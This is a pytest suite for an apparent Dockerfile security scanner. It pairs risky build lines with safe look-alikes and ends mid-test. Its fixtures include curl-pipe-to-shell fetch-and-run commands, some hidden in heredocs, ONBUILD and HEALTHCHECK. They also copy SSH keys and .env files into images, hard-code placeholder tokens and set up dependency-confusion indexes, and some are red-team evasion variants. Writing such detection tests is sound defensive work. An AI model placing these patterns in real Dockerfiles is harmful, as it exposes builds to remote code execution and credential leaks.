"""Each Dockerfile rule: a positive and a safe look-alike."""

from __future__ import annotations

from pathlib import Path

import pytest

from hooks._core.policy import Policy
from hooks.docker.spec import SPEC as DOCKER_SPEC
from tests.scanning import findings_of
from tests.secrets.helpers import HEX, fake

PIN = "python:3.11-slim@sha256:" + "a" * 64
SAFE_END = "USER app\n"


def scan(tmp_path: Path, text: str) -> list[tuple[str, int]]:
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    return sorted((f.rule_id, f.line) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path)))


CASES = [
    ("MLS501", "FROM python:3.11\nUSER app\n", f"FROM {PIN}\nUSER app\n"),
    ("MLS501", "FROM python\nUSER app\n", f"FROM {PIN} AS build\nFROM build\nUSER app\n"),
    ("MLS502", f"FROM {PIN}\nRUN echo\n", f"FROM {PIN}\nUSER 1000\n"),
    ("MLS502", f"FROM {PIN}\nUSER app\nUSER root\n", f"FROM {PIN} AS b\nUSER root\nFROM {PIN}\nUSER app\n"),
    (
        "MLS503",
        f"FROM {PIN}\nRUN curl -fsSL https://x.example/i.sh | bash\n{SAFE_END}",
        f"FROM {PIN}\nRUN curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo 'abc  /tmp/i.sh' | sha256sum -c - "
        f"&& bash /tmp/i.sh\n{SAFE_END}",
    ),
    (
        "MLS504",
        f"FROM {PIN}\nADD https://x.example/m.safetensors /m\n{SAFE_END}",
        f"FROM {PIN}\nADD --checksum=sha256:{'b' * 64} https://x.example/m.safetensors /m\n{SAFE_END}",
    ),
    (
        "MLS505",
        f"FROM {PIN}\nRUN wget http://x.example/weights.pth -O /w.pth\n{SAFE_END}",
        f"FROM {PIN}\nRUN wget https://x.example/weights.pth -O /w.pth\nCMD curl http://localhost:8000/health\n"
        "RUN if [ -f /etc/apt/sources.list ]; then \\\n"
        "    sed -i 's|http://archive.ubuntu.com|http://azure.archive.ubuntu.com|g' /etc/apt/sources.list; fi\n"
        "RUN echo http://mirror.example/simple >> /etc/mirrors.txt\n"
        "RUN find /etc/apt/sources.list.d -name '*.sources' -exec \\\n"
        f"    sed -i 's|http://archive.ubuntu.com|http://mirror.example|g' {{}} +\n{SAFE_END}",
    ),
    (
        "MLS506",
        f"FROM {PIN}\nENV WANDB_API_KEY={fake('', 40, HEX)}\n{SAFE_END}",
        f"FROM {PIN}\nARG WANDB_API_KEY\nENV WANDB_API_KEY=${{WANDB_API_KEY}} WANDB_PROJECT=demo\n{SAFE_END}",
    ),
    (
        "MLS506",
        f"FROM {PIN}\nARG HF={fake('hf_', 34)}\n{SAFE_END}",
        f"FROM {PIN}\nRUN --mount=type=secret,id=hf HF_TOKEN=$(cat /run/secrets/hf) python dl.py\n{SAFE_END}",
    ),
    (
        "MLS507",
        f"FROM {PIN}\nCOPY .env kaggle.json /app/\n{SAFE_END}",
        f"FROM {PIN}\nCOPY corp-ca.crt /usr/local/share/ca-certificates/\nCOPY . /app\n{SAFE_END}",
    ),
    (
        "MLS507",
        f"FROM {PIN}\nCOPY id_rsa /root/.ssh/id_rsa\n{SAFE_END}",
        f"FROM {PIN} AS b\nFROM {PIN}\nCOPY --from=b /root/.netrc /tmp/x\n{SAFE_END}",
    ),
    (
        "MLS508",
        f"FROM {PIN}\nRUN pip install timm wandb\n{SAFE_END}",
        f"FROM {PIN}\nRUN pip install --upgrade pip && pip install timm==1.0.3 -r requirements.txt\n{SAFE_END}",
    ),
    (
        "MLS508",
        f"FROM {PIN}\nRUN cd /src && sudo -H pip install timm > /dev/null\n{SAFE_END}",
        f"FROM {PIN}\nRUN pip install timm==1.0.3 2>&1 | tee /tmp/pip.log && pip install wandb==0.17.0 >/dev/null\n"
        f"{SAFE_END}",
    ),
    (
        "MLS508",
        f"FROM {PIN}\nRUN pip install 'git+https://github.com/org/repo.git@v1'\n{SAFE_END}",
        f"FROM {PIN}\nRUN pip install 'git+https://github.com/org/repo.git@{'c' * 40}'\n{SAFE_END}",
    ),
    (
        "MLS509",
        f"FROM {PIN}\nRUN pip install --extra-index-url https://x/simple a==1\n{SAFE_END}",
        f"FROM {PIN}\nRUN pip install --index-url https://x/simple a==1\n{SAFE_END}",
    ),
    (
        "MLS509",
        f"FROM {PIN}\nENV PIP_TRUSTED_HOST=nexus.local\n{SAFE_END}",
        f"FROM {PIN}\nENV PIP_CERT=/ca.pem\n{SAFE_END}",
    ),
    ("MLS510", f"FROM {PIN}\nRUN chmod -R 777 /app\n{SAFE_END}", f"FROM {PIN}\nRUN chmod -R 755 /app\n{SAFE_END}"),
    ("MLS511", f"FROM {PIN}\nUSER dev\nRUN sudo apt-get update\n", f"FROM {PIN}\nRUN apt-get update\n{SAFE_END}"),
    ("MLS512", f"FROM {PIN}\nEXPOSE 22 8000\n{SAFE_END}", f"FROM {PIN}\nEXPOSE 8000 2222\n{SAFE_END}"),
    (
        "MLS513",
        f"FROM {PIN}\nCMD jupyter lab --ip=0.0.0.0 --ServerApp.token='' --ServerApp.password=''\n{SAFE_END}",
        f"FROM {PIN}\nCMD jupyter lab --ip=127.0.0.1 --ServerApp.token=''\nCMD jupyter lab --ip=0.0.0.0\n{SAFE_END}",
    ),
    (
        "MLS514",
        f"FROM {PIN}\nCMD ray start --head --dashboard-host=0.0.0.0 --block\n{SAFE_END}",
        f"FROM {PIN}\nCMD ray start --head --dashboard-host=127.0.0.1 --block\n{SAFE_END}",
    ),
    (
        "MLS515",
        f'FROM {PIN}\nENTRYPOINT ["mlflow", "server", "--host", "0.0.0.0"]\n{SAFE_END}',
        f'FROM {PIN}\nENTRYPOINT ["mlflow", "server", "--host", "0.0.0.0", "--app-name", "basic-auth"]\n{SAFE_END}',
    ),
    (
        "MLS516",
        f'FROM {PIN}\nCMD ["vllm", "serve", "org/model", "--trust-remote-code"]\n{SAFE_END}',
        f'FROM {PIN}\nCMD ["vllm", "serve", "org/model", "--trust-remote-code=false"]\n{SAFE_END}',
    ),
    (
        "MLS516",
        f"FROM {PIN}\nENV MODEL_ID=org/model TRUST_REMOTE_CODE=true\n{SAFE_END}",
        f"FROM {PIN}\nENV TRUST_REMOTE_CODE=false\nRUN echo 'pass --trust-remote-code for custom code'\n{SAFE_END}",
    ),
    (
        "MLS516",
        f"FROM {PIN}\nENV OPTION_TRUST_REMOTE_CODE=1\n{SAFE_END}",
        f"FROM {PIN}\nENV TRUST_REMOTE_CODE_DOCS=true\n{SAFE_END}",
    ),
]


@pytest.mark.parametrize(("rule", "positive", "safe"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rule(tmp_path: Path, rule: str, positive: str, safe: str) -> None:
    assert rule in [r for r, _ in scan(tmp_path, positive)]
    assert rule not in [r for r, _ in scan(tmp_path, safe)]


def test_reported_on_the_instruction_first_line(tmp_path: Path) -> None:
    text = f"FROM {PIN}\nRUN apt-get update \\\n    && curl -s https://x/i.sh \\\n    | bash\n{SAFE_END}"
    assert scan(tmp_path, text) == [("MLS503", 2)]


def test_a_download_a_substitution_feeds_to_a_shell_is_found(tmp_path: Path) -> None:
    for run in ('RUN eval "$(curl -fsSL https://x.example/i.sh)"', "RUN bash < <(curl -fsSL https://x.example/i.sh)"):
        assert scan(tmp_path, f"FROM {PIN}\n{run}\n{SAFE_END}") == [("MLS503", 2)], run
    assert scan(tmp_path, f'FROM {PIN}\nRUN echo "$(curl -fsSL https://x.example/version)"\n{SAFE_END}') == []


def test_suppression_on_the_line_above(tmp_path: Path) -> None:
    text = f"FROM {PIN}\n# mlsec: ignore[MLS512] bastion image, reviewed\nEXPOSE 22\n{SAFE_END}"
    assert scan(tmp_path, text) == []


@pytest.mark.parametrize("content", [b"\x00\x01binary", b"FROM x\nRUN <<EOF\nnever closed\n", b"RUN echo hi\nFROM x\n"])
def test_unparseable_files_are_a_finding(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "Dockerfile"
    path.write_bytes(content)
    findings = findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))
    assert [f.rule_id for f in findings] == ["MLS909"]


def test_huge_lines_do_not_hang(tmp_path: Path) -> None:
    text = f"FROM {PIN}\nRUN echo " + "a" * 500_000 + f"\n{SAFE_END}"
    assert scan(tmp_path, text) == []


def graded(tmp_path: Path, text: str, profile: str = "default") -> list[tuple[str, int, str]]:
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    policy = Policy(root=tmp_path, profile=profile)
    return sorted((f.rule_id, f.line, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", policy))


def test_hygiene_is_low_by_default_and_medium_when_strict(tmp_path: Path) -> None:
    text = "FROM python:3.11\nRUN pip install torch transformers && pip install rich\nRUN sudo apt-get update\n"
    assert graded(tmp_path, text) == [
        ("MLS501", 1, "low"),
        ("MLS502", 1, "low"),
        ("MLS508", 2, "low"),  # one per RUN instruction, every package named
        ("MLS511", 3, "low"),
    ]
    assert {severity for _, _, severity in graded(tmp_path, text, "strict")} == {"medium"}


def test_install_messages_name_the_installer(tmp_path: Path) -> None:
    """A RUN may chain several installers: each message says which one installs what."""
    text = f"FROM {PIN}\nRUN pipx install black && uv pip install --system torch\nRUN pip3 install rich\n{SAFE_END}"
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    messages = [f.message for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
    assert messages == [
        "pipx installs black without an exact == pin; uv installs torch without an exact == pin",
        "pip3 installs rich without an exact == pin",
    ]
    path.write_text(f"FROM {PIN}\nRUN pip install --index-url http://pypi.internal/simple x==1\n{SAFE_END}")
    found = findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))
    assert [f.message.split(" ", 2)[:2] for f in found] == [["pip", "installs"]]


def test_pypi_as_an_extra_index_beside_a_private_index(tmp_path: Path) -> None:
    """PyPI as the extra index beside the command's own private --index-url is dependency
    confusion for pip, and for uv, which looks at extra indexes first; beside a vendor's index
    (PyTorch's) it is low, as a vendor's extra index is. Look-alike: PyPI alone as an extra."""
    corp, pypi = "--index-url https://pypi.corp.example/simple", "--extra-index-url https://pypi.org/simple"
    text = (
        f"FROM {PIN}\nRUN pip install {corp} {pypi} corp-secret==1.0\n"
        f"RUN uv pip install --system {corp} {pypi} corp-secret==1.0\n"
        f"RUN pip install torch==2.1.0 --index-url https://download.pytorch.org/whl/cu121 {pypi}\n"
        f"RUN pip install {pypi} rich==13.0.0\n{SAFE_END}"
    )
    assert [f for f in graded(tmp_path, text) if f[0] == "MLS509"] == [
        ("MLS509", 2, "high"),
        ("MLS509", 3, "high"),
        ("MLS509", 4, "low"),
    ]
    # uv's own spelling and pip's glued short option; look-alikes: TestPyPI and a public PyPI
    # mirror are no private index.
    text = (
        f"FROM {PIN}\nRUN uv pip install --system --default-index https://nexus.corp/simple --index {pypi[18:]} x==1\n"
        f"RUN pip install -ihttps://nexus.corp/simple {pypi} x==1\nRUN pip install -ihttp://nexus.corp/simple x==1\n"
        f"RUN pip install --index-url https://test.pypi.org/simple/ {pypi} foocat==1.0\n"
        f"RUN pip install -i https://mirrors.aliyun.com/pypi/simple/ {pypi} foocat==1.0\n"
        f"RUN pip install -r requirements.txt -i https://www.piwheels.org/simple {pypi}\n"
        f"RUN pip install paddlepaddle-gpu==2.6.1 -i https://www.paddlepaddle.org.cn/packages/stable/cu118/ {pypi}\n"
        f"{SAFE_END}"
    )
    assert [f[:2] for f in graded(tmp_path, text) if f[0] in ("MLS509", "MLS505")] == [
        ("MLS509", 2),
        ("MLS509", 3),
        ("MLS509", 4),
    ]


def test_pypi_as_an_extra_index_beside_a_variable_named_as_a_private_registry(tmp_path: Path) -> None:
    """`--index-url "$ARTIFACTORY_URL/simple"`: the shell fills the index in, and its variable's name
    says it is a private registry, so PyPI as the extra index is dependency confusion. Look-alikes:
    a variable named as a mirror or as PyPI says nothing, and a private variable alone is no finding."""
    pypi = "--extra-index-url https://pypi.org/simple"
    text = (
        f'FROM {PIN}\nRUN pip install --index-url "$ARTIFACTORY_URL/simple" {pypi} corp-secret==1.0\n'
        f"RUN pip install -i ${{PRIVATE_PYPI_INDEX}} {pypi} corp-secret==1.0\n"
        f"RUN pip install -i $PIP_MIRROR {pypi} foocat==1.0\n"
        f"RUN pip install --index-url ${{PYPI_URL}} {pypi} foocat==1.0\n"
        f"RUN pip install -i $NEXUS_PYPI corp-secret==1.0\n{SAFE_END}"
    )
    assert [f for f in graded(tmp_path, text) if f[0] == "MLS509"] == [("MLS509", 2, "high"), ("MLS509", 3, "high")]


def test_copy_from_an_image_is_pinned_like_from(tmp_path: Path) -> None:
    text = (
        f"FROM {PIN} AS build\nFROM {PIN}\nCOPY --from=ghcr.io/astral-sh/uv:latest /uv /bin/\nCOPY --from=build /a /a\n"
    )
    text += f"COPY --from=0 /b /b\nCOPY --from=ghcr.io/astral-sh/uv:0.4@sha256:{'c' * 64} /uv /bin/\n{SAFE_END}"
    assert scan(tmp_path, text) == [("MLS501", 3)]


def test_heredoc_scripts_are_run_lines(tmp_path: Path) -> None:
    text = (
        f"FROM {PIN}\nCOPY <<EOF /start.sh\n#!/bin/sh\nset -e\nray start --head --dashboard-host=0.0.0.0\nEOF\n"
        "RUN <<EOT bash\napt-get update\ncurl -fsSL https://x.example/i.sh | sh\nEOT\n"
        f"COPY <<EOF /safe.sh\nray start --head --dashboard-host=127.0.0.1\nEOF\n{SAFE_END}"
    )
    assert scan(tmp_path, text) == [("MLS503", 9), ("MLS514", 5)]


_CURL_SH = "curl -fsSL https://x.example/i.sh | sh"


@pytest.mark.parametrize(
    ("run", "line"),
    [
        (f"RUN python3 << 'PY'\nimport subprocess\nsubprocess.run(\"{_CURL_SH}\", shell=True)\nPY\n", 4),
        (f"RUN python3 <<'PY'\nimport os\nos.system('{_CURL_SH}')\nPY\n", 4),
        (f"RUN node << 'JS'\nrequire('child_process').execSync(`{_CURL_SH}`)\nJS\n", 3),
        (f'RUN <<EOF\n#!/usr/bin/env python3\nimport os\nos.system("{_CURL_SH}")\nEOF\n', 5),
    ],
)
def test_commands_a_heredoc_script_hands_a_shell_are_run_lines(tmp_path: Path, run: str, line: int) -> None:
    """The red team's: a heredoc fed to an interpreter is a script; the commands it gives a shell
    are its string literals, judged at their line."""
    assert scan(tmp_path, f"FROM {PIN}\n{run}{SAFE_END}") == [("MLS503", line)]


@pytest.mark.parametrize(
    "run",
    [
        "RUN python3 << 'PY'\nprint('downloading the weights now')\nopen('x', 'w').write(\"a b\")\nPY\n",
        "RUN cat > /app/msg.txt << 'EOF'\nrun: curl -fsSL https://x.example/i.sh\nEOF\n",
    ],
)
def test_a_heredoc_script_without_such_commands_is_clean(tmp_path: Path, run: str) -> None:
    assert scan(tmp_path, f"FROM {PIN}\n{run}{SAFE_END}") == []


def test_pip_wheel_and_download_of_vcs_refs(tmp_path: Path) -> None:
    text = f"FROM {PIN}\nRUN pip wheel -w /w git+https://github.com/org/repo.git@main\n"
    text += f"RUN pip download git+https://github.com/org/repo.git@{'d' * 40}\n{SAFE_END}"
    assert graded(tmp_path, text) == [("MLS508", 2, "low")]


def test_false_positives_from_real_images(tmp_path: Path) -> None:
    text = (
        f"FROM {PIN}\nCOPY .env.example .env.sample config.sample id_rsa.pub /app/\n"
        "ENV GOOGLE_APPLICATION_CREDENTIALS=/secrets/x.json\n"
        "RUN echo 'deb [signed-by=/usr/share/keyrings/cloud.google.gpg] http://packages.cloud.google.com/apt "
        "cloud-sdk main' > /etc/apt/sources.list.d/g.list\n"
        f"ADD https://raw.githubusercontent.com/org/repo/{'e' * 40}/LICENSE /LICENSE\n{SAFE_END}"
    )
    assert scan(tmp_path, text) == []
    real = (
        f"FROM {PIN}\nCOPY .env id_rsa /app/\nENV API_TOKEN=hf_abcdefghijklmnopqrstuvwxyz012345\n"
        "RUN echo 'deb [trusted=yes] http://repo.example/apt ./' > /etc/apt/sources.list.d/x.list\n"
        "RUN curl -o /w.bin http://weights.example/w.bin\n" + SAFE_END
    )
    assert [rule for rule, _ in scan(tmp_path, real) if rule.startswith("MLS5")] == [
        "MLS505",
        "MLS505",
        "MLS506",
        "MLS507",
        "MLS507",
    ]


def test_a_name_that_only_contains_a_credential_word_holds_no_secret(tmp_path: Path) -> None:
    # `tokenizers`, `author`, `pad_token`: the credential word is part of another word or names
    # something else, and the value beside it (a commit the next line checks out) is no secret.
    text = (
        f"FROM {PIN}\nARG ov_tokenizers_branch={'85be884a69f1' * 3}abcd\nENV AUTHOR_EMAIL=dev@example.com\n"
        f"ARG PAD_TOKEN=<|endoftext|>\nRUN git checkout $ov_tokenizers_branch\n{SAFE_END}"
    )
    assert [rule for rule, _ in scan(tmp_path, text) if rule == "MLS506"] == []
    secret = f"FROM {PIN}\nARG ov_tokenizer_token={'85be884a69f1' * 3}abcd\nARG ADMIN_PASSWORD=Zq8Rt5yWm3Lp\n{SAFE_END}"
    assert [rule for rule, _ in scan(tmp_path, secret) if rule == "MLS506"] == ["MLS506", "MLS506"]
    # Red team (stop 41): names run together (`PGPASSWORD`, PostgreSQL's own) are still credentials.
    run_together = f"FROM {PIN}\nENV PGPASSWORD=Zq7vR2mXk9LpW4tB\nARG HFTOKEN=Zq7vR2mXk9LpW4tE\n"
    run_together += f"ENV SECRETACCESSKEY=Zq7vR2mXk9LpW4tF\n{SAFE_END}"
    assert [rule for rule, _ in scan(tmp_path, run_together) if rule == "MLS506"] == ["MLS506"] * 3


def test_add_of_a_url_that_is_then_run(tmp_path: Path) -> None:
    text = f"FROM {PIN}\nADD https://x.example/install.sh /tmp/install.sh\nRUN bash /tmp/install.sh\n{SAFE_END}"
    assert graded(tmp_path, text) == [("MLS504", 2, "medium")]
    kept = f"FROM {PIN}\nADD https://x.example/data.tar.gz /data/\nRUN ls /data\n{SAFE_END}"
    assert graded(tmp_path, kept) == [("MLS504", 2, "low")]


def test_credentials_in_urls_are_redacted(tmp_path: Path) -> None:
    text = (
        f"FROM {PIN}\nRUN curl -o /w.bin http://user:S3cretPassw0rd9@weights.example.com/w.bin\n"
        "ADD https://oauth2:glpat-AbCdEfGhIjKlMnOpQrStUv@gitlab.example.com/x.tar.gz /x\n"
        "RUN pip install git+https://user:ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8@github.com/org/repo.git\n" + SAFE_END
    )
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    messages = " ".join(f.message for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path)))
    for secret in ("S3cretPassw0rd9", "glpat-", "ghp_A1b2", "user:", "oauth2:"):
        assert secret not in messages
    assert "***@weights.example.com" in messages and "***@github.com/org/repo.git" in messages


def test_a_byte_order_mark_does_not_hide_the_checks(tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_bytes(
        b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN curl -fsSL https://x.example/i.sh | bash\nUSER app\n"
    )
    assert [f.rule_id for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))] == ["MLS503"]
    path.write_bytes(b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN echo ok\nUSER app\n")
    assert findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path)) == []


def test_an_index_given_through_a_build_argument_is_judged_by_the_url_it_sets(tmp_path: Path) -> None:
    vendor = (
        "FROM python:3.12@sha256:" + "a" * 64 + '\nARG TORCH_INDEX="https://download.pytorch.org/whl/cpu"\n'
        "RUN pip install --extra-index-url ${TORCH_INDEX} torch==2.3.1\nUSER app\n"
    )
    path = tmp_path / "Dockerfile"
    path.write_text(vendor)
    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
    assert found == [("MLS509", "low")]
    path.write_text(vendor.replace("https://download.pytorch.org/whl/cpu", "https://pkgs.corp.example/simple"))
    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
    assert found == [("MLS509", "high")]
    path.write_text(vendor.replace('ARG TORCH_INDEX="https://download.pytorch.org/whl/cpu"', "ARG TORCH_INDEX"))
    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
    assert found == [("MLS509", "high")]  # no value in the file: whatever the build passes


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("# TODO: write the Dockerfile for the kfp-cli image\n\n# syntax hint\n", "low"),  # builds nothing
        ("# syntax=docker/dockerfile:1\n# TODO\n", "low"),  # Docker's own frontend: still nothing
        ("# TODO\nRUN curl https://x.example/i.sh | sh\nFROM x\n", "medium"),  # an instruction before FROM
        ("# syntax=ghcr.io/some-user/frontend:latest\n# it reads build.yaml\n", "medium"),  # a custom frontend builds
    ],
)
def test_a_dockerfile_of_comments_only_is_low_unless_something_builds_it(
    tmp_path: Path, text: str, severity: str
) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
    assert found == [("MLS909", severity)]


@pytest.mark.parametrize(
    "run",
    [
        "echo http://x.example/x.sh | xargs wget -O /tmp/x.sh",
        "cat <(curl -s http://x.example/a.sh) > /tmp/a.sh",
        "awk 'BEGIN{system(\"curl -o /tmp/m http://x.example/m\")}'",
        'echo "$(curl -s http://x.example/cfg)" > /etc/app.conf',
        "printf '%s\\n' http://x.example/list | xargs -n1 curl -O",
        "echo don\\'t && curl -o /tmp/q http://x.example/q",
    ],
)
def test_a_url_a_text_tool_hands_on_is_still_a_fetch(tmp_path: Path, run: str) -> None:
    text = f"FROM {PIN}\nRUN {run}\n{SAFE_END}"
    assert "MLS505" in [rule for rule, _ in scan(tmp_path, text)], run


@pytest.mark.parametrize(
    "run",
    [
        "wget -i http://x.example/urls.txt",
        "kubectl apply -f http://x.example/manifest.yaml",
        "curl -f http://x.example/m.bin -o /m.bin",
        "echo pip && wget -i http://x.example/urls.txt",  # pip named by another command
    ],
)
def test_an_option_url_of_a_program_other_than_an_installer_is_a_fetch(tmp_path: Path, run: str) -> None:
    # `-i`/`-f` name an index only for pip and its kin; for wget or kubectl they fetch the URL.
    rules = [rule for rule, _ in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")]
    assert "MLS505" in rules, run


@pytest.mark.parametrize(
    "run",
    [
        "pip install -i http://pypi.x.example/simple foo==1.0",
        "python3 -m pip install --index-url http://pypi.x.example/simple foo==1.0",
        "/opt/conda/bin/pip install \\\n    -f http://x.example/wheels foo==1.0",
        "uv pip install --extra-index-url http://pypi.x.example/simple foo==1.0",
    ],
)
def test_an_installers_index_is_reported_once_by_the_pip_check(tmp_path: Path, run: str) -> None:
    rules = [rule for rule, _ in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")]
    assert "MLS509" in rules and "MLS505" not in rules, run


def test_a_fragment_without_from_has_its_steps_checked(tmp_path: Path) -> None:
    # Azure ML's extra_docker_file_steps and generators' includes: steps for a base named elsewhere.
    text = "# extra steps\nRUN curl -fsSL https://x.example/i.sh | sh\nEXPOSE 22\nRUN pip install torch==2.3.1\n"
    assert graded(tmp_path, text) == [("MLS503", 2, "high"), ("MLS512", 3, "medium"), ("MLS909", 2, "low")]


def test_a_fragment_is_not_blamed_for_the_base_it_does_not_name(tmp_path: Path) -> None:
    # No FROM to pin and no final USER to judge: the base image decides both. USER root still counts.
    assert graded(tmp_path, "RUN pip install torch==2.3.1\n") == [("MLS909", 1, "low")]
    assert graded(tmp_path, "RUN pip install torch==2.3.1\nUSER root\n") == [("MLS502", 2, "low"), ("MLS909", 1, "low")]
    assert graded(tmp_path, "COPY --from=builder:latest /a /a\n") == [("MLS501", 1, "low"), ("MLS909", 1, "low")]
    # strict restores the rule's severity: the base image and start user nobody could check here
    assert graded(tmp_path, "RUN pip install torch==2.3.1\n", "strict") == [("MLS909", 1, "medium")]


def test_files_that_are_no_fragment_stay_unchecked_at_full_severity(tmp_path: Path) -> None:
    # An instruction before a later FROM, a custom frontend, or a line that is no instruction.
    for text, line in (
        ("RUN curl -fsSL https://x.example/i.sh | sh\nFROM x\n", 1),
        ("# syntax=ghcr.io/some-user/frontend:latest\nRUN echo hi\n", 2),
        ("RUN echo hi\nthis is prose\n", 2),
    ):
        assert graded(tmp_path, text) == [("MLS909", line, "medium")], text


def test_root_by_any_spelling_of_uid_zero(tmp_path: Path) -> None:
    for user in ("root", "0", "00", "000:0"):
        text = f"FROM {PIN}\nUSER {user}\n"
        assert ("MLS502", 2, "low") in graded(tmp_path, text), user
    assert all(rule != "MLS502" for rule, _, _ in graded(tmp_path, f"FROM {PIN}\nUSER 1000\n"))


# --- what ONBUILD, HEALTHCHECK and SHELL hold (red team, stop 58) ---------------------------------
@pytest.mark.parametrize(
    ("held", "rule"),
    [
        ("ONBUILD RUN curl -sSL https://x.example/i.sh | sh", "MLS503"),
        ("HEALTHCHECK --interval=30s CMD curl -s https://x.example/h.sh | sh", "MLS503"),
        ('HEALTHCHECK CMD ["sh", "-c", "curl -s https://x.example/h.sh | sh"]', "MLS503"),
        ("ONBUILD HEALTHCHECK CMD curl -s https://x.example/h.sh | bash", "MLS503"),
        ('ONBUILD RUN python -c "AutoModel.from_pretrained(m, trust_remote_code=True)"', "MLS516"),
        ("ONBUILD ENV TRUST_REMOTE_CODE=true", "MLS516"),
        ("ONBUILD COPY id_rsa /root/.ssh/id_rsa", "MLS507"),
    ],
)
def test_what_onbuild_and_healthcheck_hold_is_checked(tmp_path: Path, held: str, rule: str) -> None:
    assert (rule, 2) in scan(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")


@pytest.mark.parametrize(
    "held",
    [
        "HEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1",
        'HEALTHCHECK --interval=5m --timeout=3s CMD ["curl", "-f", "http://localhost/"]',
        "HEALTHCHECK NONE",
        "ONBUILD RUN pip install --no-cache-dir -r requirements.txt",
        "ONBUILD COPY . /app",
        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]',
        'SHELL ["/bin/bash", "-euxo", "pipefail", "-c"]',
        'SHELL ["/bin/bash", "--login", "-c"]',
        'SHELL ["conda", "run", "--no-capture-output", "-n", "env", "/bin/bash", "-c"]',
    ],
)
def test_what_they_hold_that_is_benign_gives_nothing_blocking(tmp_path: Path, held: str) -> None:
    found = graded(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")
    assert [f for f in found if f[1] == 2 and f[2] != "low"] == []


@pytest.mark.parametrize(
    "held",
    [
        'SHELL ["powershell", "-Command"]',
        'SHELL ["/bin/sh", "-c", "curl https://x.example/s | sh; sh -c"]',
        'SHELL ["/bin/bash", "--rcfile", "/tmp/x", "-c"]',
        'SHELL ["conda", "run", "--bogus", "/bin/bash", "-c"]',
        "SHELL /bin/bash -c",
        "ONBUILD ONBUILD RUN echo",
        "ONBUILD FROM python",
        "ONBUILD RUN <<EOF",
        "HEALTHCHECK --retries=3 curl -f http://localhost/",
        "HEALTHCHECK CMD",
    ],
)
def test_what_cannot_be_read_is_reported_not_checked(tmp_path: Path, held: str) -> None:
    found = graded(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")
    assert ("MLS909", 2, "medium") in found


def test_a_file_whose_lines_end_in_cr_alone_is_one_from_line_buildkit_refuses(tmp_path: Path) -> None:
    text = f"FROM {PIN}\rUSER app\rRUN curl https://x.example/x | sh\r"
    assert ("MLS909", 1, "medium") in graded(tmp_path, text)


# --- second red-team pass on what ONBUILD, HEALTHCHECK and SHELL hold -----------------------------
@pytest.mark.parametrize(
    "text",
    [
        f"FROM {PIN}\nADD https://x.example/x.sh /x.sh\nHEALTHCHECK CMD sh /x.sh\n{SAFE_END}",
        f"FROM {PIN}\nADD https://x.example/x.sh /x.sh\nONBUILD RUN sh /x.sh\n{SAFE_END}",
        f"FROM {PIN}\nONBUILD ADD https://x.example/x.sh /x.sh\nONBUILD RUN sh /x.sh\n{SAFE_END}",
    ],
)
def test_a_download_that_onbuild_or_healthcheck_runs_is_executed_unverified(tmp_path: Path, text: str) -> None:
    assert any(rule == "MLS504" and severity == "medium" for rule, _, severity in graded(tmp_path, text))


def test_a_secret_an_onbuild_env_sets_is_found(tmp_path: Path) -> None:
    found = graded(tmp_path, f"FROM {PIN}\nONBUILD ENV DB_PASSWORD={fake('', 24)}\n{SAFE_END}")
    assert any(rule == "MLS506" and line == 2 for rule, line, _ in found)


@pytest.mark.parametrize("shell", ['["/bin/bash", "-lc"]', '["/bin/bash", "-ec"]', '["/bin/sh", "-euxc"]'])
def test_combined_flags_ending_in_c_are_a_posix_shells_c(tmp_path: Path, shell: str) -> None:
    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN echo hi\n{SAFE_END}")
    assert not any(rule == "MLS909" for rule, _, _ in found)


# bash and sh read option clusters: an `o` takes the next word as an option's name, in order, and a
# `c` anywhere makes the RUN line the command string (`bash -ceuxo pipefail 'cmd'` runs cmd).
@pytest.mark.parametrize(
    "shell",
    [
        '["/bin/bash", "-ceuxo", "pipefail"]',
        '["/bin/bash", "-oc", "pipefail"]',
        '["/bin/bash", "-c", "-e", "-o", "pipefail"]',
        '["/bin/bash", "-eo", "pipefail", "-O", "extglob", "-c"]',
        '["/bin/bash", "-ooc", "pipefail", "nounset"]',
        '["/bin/bash", "-c", "--"]',  # `--` last ends the options; the RUN line is still the string
    ],
)
def test_a_c_anywhere_among_the_shells_options_is_its_c(tmp_path: Path, shell: str) -> None:
    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN curl https://x.example/s | sh\n{SAFE_END}")
